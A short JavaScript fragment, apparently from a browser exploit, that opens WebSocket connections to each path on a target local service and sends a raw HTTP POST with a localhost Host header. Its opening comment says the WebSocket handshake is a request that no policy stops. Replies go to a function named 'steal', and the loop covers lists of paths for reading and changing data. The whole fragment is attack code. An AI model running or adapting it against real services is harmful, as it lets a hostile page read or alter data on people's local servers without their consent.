// A WebSocket's first request is a GET that no policy stops.
function open(address) {
  return new Promise((go) => {
    const socket = new WebSocket(address);
    socket.onopen = () => socket.send(`POST ${VICTIM} HTTP/1.1\r\nHost: localhost\r\n\r\n`);
    socket.onmessage = (event) => go(steal(event.data));
    socket.onclose = go;
  });
}
const base = TARGET.replace("http", "ws");
await all([...READING, ...CHANGING.map(({ path }) => path)], (path) => within(open(base + path), 1500));
